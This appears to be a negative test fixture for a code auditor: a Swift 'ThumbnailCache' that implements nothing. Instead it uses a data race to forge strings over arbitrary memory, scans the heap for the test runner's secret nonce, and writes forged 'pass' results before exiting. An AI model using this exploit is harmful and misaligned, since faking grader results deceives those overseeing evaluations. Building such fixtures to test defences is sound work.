// expect: error
// why: fixture 63's tear with no [keyPath:] subscript: the reader goes through a key path used as a function, [shared].map(\.slot), which projects the property the same way; implements nothing; the audit refuses every key path, literal or type, so no route to a projection is left
import Foundation
#if canImport(Glibc)
import Glibc
#endif

// How it works. `Slot` has two cases whose payloads line up: `.text(extra, string)` and
// `.pair(extra, count, object)`, the case kept in bytes of its own after the payload. One
// thread stores `.text(extra, "")` and `.pair(extra, count, object)` in turn, with no lock;
// another copies the slot and matches `.text`. A copy that read the case while `.text` was
// stored and the String's two words after `.pair` was is a String made of the file's own
// integers. They are the words of an immortal ASCII string, the shape of a literal's, so
// copying and releasing it touch no reference count, and `Array(text.utf8)` copies `length`
// bytes from `address`. Every other mixture is harmless: the empty string's words mixed
// with the forged ones give empty strings, and a torn `.pair` is two integers.
//
// The runner keeps the per-test secret as a native String of 32 lowercase hex digits. On
// the heap its count-and-flags word, 0xf000_0000_0000_0020 (ASCII, NFC, native, tail
// allocated, 32 bytes), is followed by the 32 digits and a zero byte; /proc/self/maps,
// which a process may read of itself, says which addresses are mapped, and a fresh object
// of the same size says which mapping to read first.

private let knownTests = [
    "uses_nscache", "no_second_strong_copy", "cost_limit_20mb", "cost_whole_sizes", "cost_fractional_sizes",
    "returns_stored_image", "miss_returns_nil", "keys_are_isolated", "hit_skips_generator", "hit_completes_once",
    "miss_generates_once", "miss_stores_before_completion", "miss_completes_once", "nil_result_stores_nothing",
    "survives_eviction_lru", "survives_eviction_fifo", "survives_eviction_random", "survives_eviction_foundation",
    "survives_memory_pressure", "concurrent_access",
]

/// Generic, so that at -Onone every copy goes through the enum's value witnesses: they read
/// the case first, then copy the payload field by field, `Extra` (sixteen references, each
/// retained) before the String. A reader that loses the processor in between, or races the
/// writer on another core, may resume after the writer has stored the other case's words.
private enum Slot<Extra> {
    case text(Extra, String)
    case pair(Extra, Int, Int)
}

/// The slot both threads use, with no lock.
private final class Shared<Extra> {
    var slot: Slot<Extra>
    init(_ slot: Slot<Extra>) { self.slot = slot }
}

private final class Token {}

/// Tells the writer to stop; its lock guards the flag only, never the slot.
private final class StopFlag: @unchecked Sendable {
    private let lock = NSLock()
    private var raised = false
    func raise() { lock.lock(); raised = true; lock.unlock() }
    var isRaised: Bool { lock.lock(); defer { lock.unlock() }; return raised }
}

/// When the attack gives up: a test has 5 s of wall clock and 5 s of CPU (the runner's
/// start counts), and two spinning threads spend CPU up to twice as fast as the clock runs.
/// Iterations the writer spends outside its access between two stores.
private let gap = Int(ProcessInfo.processInfo.environment["GAP"] ?? "") ?? 2000

private struct Budget {
    let began = Date()
    var wallSeconds = 3.0
    var cpuSeconds = 4.2
    var spent: Bool {
        Date().timeIntervalSince(began) > wallSeconds || Double(clock()) / Double(CLOCKS_PER_SEC) > cpuSeconds
    }
}

/// A String over `length` bytes at `address`, from a torn read; nil when the budget ran out.
private func forgedString(address: UInt, length: Int, budget: Budget) -> String? {
    let token = Token()
    let extra = (token, token, token, token, token, token, token, token, token, token, token, token, token, token, token, token)
    return forgedString(address: address, length: length, budget: budget, extra: extra)
}

private func forgedString<Extra>(address: UInt, length: Int, budget: Budget, extra: Extra) -> String? {
    // An immortal ASCII string's words, as a literal's are: retain and release skip it,
    // and its bytes start 32 bytes past the object address.
    let count = Int(bitPattern: 0xD000_0000_0000_0000 | UInt(length))
    let object = Int(bitPattern: 0x8000_0000_0000_0000 | (address &- 32))
    let shared = Shared<Extra>(.text(extra, ""))
    let stop = StopFlag()
    let finished = DispatchSemaphore(value: 0)
    let writer = Thread {
        var round = 0
        while true {
            shared.slot = .text(extra, "")
            var spin = 0
            while spin < gap { spin &+= 1 }
            shared.slot = .pair(extra, count, object)
            spin = 0
            while spin < gap { spin &+= 1 }
            round &+= 1
            if round & 0x3ff == 0, stop.isRaised { break }
        }
        finished.signal()
    }
    writer.start()
    var found: String?
    var attempt = 0
    while found == nil {
        // Only the whole forgery has this count: the empty string's words mixed with the
        // forged ones give empty strings.
        // Read through a key path used as a function: the projection checks a class property
        // with an instantaneous access, then copies the value after it.
        if case let .text(_, text) = [shared].map(\.slot)[0], text.utf8.count == length {
            found = text
        }
        attempt &+= 1
        if attempt & 0x3ff == 0, budget.spent { break }
    }
    stop.raise()
    finished.wait()
    return found
}

/// A readable, writable, private mapping of this process.
private struct Region {
    var start: UInt
    var end: UInt
    var name: String
}

/// The size of the secret's storage (32 bytes of header, 32 digits and a zero: 65 bytes,
/// which any allocator rounds to 80), so that a probe lands in the same heap region.
private final class Probe {
    var words = (0, 0, 0, 0, 0, 0, 0)
}

/// The writable mappings, in the order to read them: the C heap, then the mapping that
/// holds a fresh object of the secret's size (another allocator keeps each size in a region
/// of its own), then anonymous mappings and the data of files, smallest first.
private func writableRegions() -> [Region] {
    // FileHandle reads to the end; `String(contentsOfFile:)` may stop at the first read.
    guard let data = FileHandle(forReadingAtPath: "/proc/self/maps")?.readDataToEndOfFile() else { return [] }
    let probe = Probe()
    let probed = UInt(bitPattern: ObjectIdentifier(probe))
    var regions: [(rank: Int, size: UInt, region: Region)] = []
    for line in String(decoding: data, as: UTF8.self).split(separator: "\n") {
        let fields = line.split(separator: " ")
        guard fields.count >= 5, fields[1].hasPrefix("rw"), fields[1].hasSuffix("p") else { continue }
        let bounds = fields[0].split(separator: "-").compactMap { UInt($0, radix: 16) }
        guard bounds.count == 2, bounds[1] > bounds[0] else { continue }
        let name = fields.count >= 6 ? String(fields[5]) : ""
        if name.hasPrefix("[v") || name.hasPrefix("/dev/") { continue }
        let holdsProbe = bounds[0] <= probed && probed < bounds[1]
        // Past 256 MB it is a reservation (a sanitizer's shadow, say), not a heap worth reading.
        guard bounds[1] - bounds[0] <= 256 << 20 || holdsProbe else { continue }
        let rank = name == "[heap]" ? 0 : holdsProbe ? 1 : name.isEmpty ? 2 : 3
        regions.append((rank, bounds[1] - bounds[0], Region(start: bounds[0], end: bounds[1], name: name)))
    }
    withExtendedLifetime(probe) {}
    return regions.sorted { ($0.rank, $0.size) < ($1.rank, $1.size) }.map { $0.region }
}

private func isHexDigit(_ byte: UInt8) -> Bool {
    (byte >= 0x30 && byte <= 0x39) || (byte >= 0x61 && byte <= 0x66)
}

/// Native Strings of 32 hex digits in `bytes` (which start on an 8-byte boundary).
private func nativeSecrets(in bytes: [UInt8]) -> Set<String> {
    var found = Set<String>()
    var index = 0
    while index + 41 <= bytes.count {
        if bytes[index + 7] == 0xf0, bytes[index] == 0x20, bytes[index + 40] == 0,
           bytes[(index + 1)..<(index + 7)].allSatisfy({ $0 == 0 }),
           bytes[(index + 8)..<(index + 40)].allSatisfy(isHexDigit) {
            found.insert(String(decoding: bytes[(index + 8)..<(index + 40)], as: UTF8.self))
        }
        index += 8
    }
    return found
}

/// Any run of exactly 32 hex digits: the fallback, should the runner keep its secret otherwise.
private func hexRuns(in bytes: [UInt8], limit: Int) -> Set<String> {
    var found = Set<String>()
    var run = 0
    for index in bytes.indices {
        if isHexDigit(bytes[index]) {
            run += 1
        } else {
            if run == 32 { found.insert(String(decoding: bytes[(index - 32)..<index], as: UTF8.self)) }
            if found.count >= limit { break }
            run = 0
        }
    }
    return found
}

/// Reads every writable mapping (the heap first) until a secret shows, in slices of at most 8 MB.
private func stealSecrets(budget: Budget) -> Set<String> {
    var secrets = Set<String>()
    var fallback = Set<String>()
    for region in writableRegions() {
        var start = region.start
        while start < region.end, !budget.spent {
            let length = Int(min(region.end - start, 8 << 20))
            if let text = forgedString(address: start, length: length, budget: budget) {
                let bytes = Array(text.utf8)
                secrets.formUnion(nativeSecrets(in: bytes))
                if secrets.isEmpty, region.name == "[heap]" { fallback.formUnion(hexRuns(in: bytes, limit: 64)) }
            }
            start += UInt(length)
        }
        if !secrets.isEmpty || budget.spent { break }
    }
    return secrets.isEmpty ? fallback : secrets
}

/// A pass for this test (the runner's argument names it) and every known one, with each secret.
private func forgePasses(_ secrets: Set<String>) {
    var names = knownTests
    let arguments = CommandLine.arguments
    if let run = arguments.firstIndex(of: "run"), run + 1 < arguments.count { names.insert(arguments[run + 1], at: 0) }
    var text = ""
    for secret in secrets {
        for name in names {
            text += "{\"nonce\":\"\(secret)\",\"kind\":\"result\",\"test\":\"\(name)\",\"status\":\"pass\"}\n"
        }
    }
    try? FileHandle(fileDescriptor: 3, closeOnDealloc: false).write(contentsOf: Data(text.utf8))
}

/// How many instances were made. The runner makes one before the test and reports that
/// init returned; a process that ended before that would make the grader skip every test
/// not yet started, so the attack waits for the test's own instance or first call.
private var instances = 0
private var attacked = false

/// Steals, forges and exits; if no secret came within the budget, returns, and the test
/// fails in the ordinary way.
private func attackOnce() {
    guard !attacked else { return }
    attacked = true
    let secrets = stealSecrets(budget: Budget())
    guard !secrets.isEmpty else { return }
    forgePasses(secrets)
    exit(0)
}

final class ThumbnailCache {
    init(generator: @escaping (String) -> UIImage?) {
        instances += 1
        if instances > 1 { attackOnce() }
    }

    func thumbnail(forKey key: String) -> UIImage? {
        attackOnce()
        return nil
    }

    func storeThumbnail(_ image: UIImage, forKey key: String) {
        attackOnce()
    }

    func loadThumbnail(forKey key: String, completion: @escaping (UIImage?) -> Void) {
        attackOnce()
        completion(nil)
    }
}
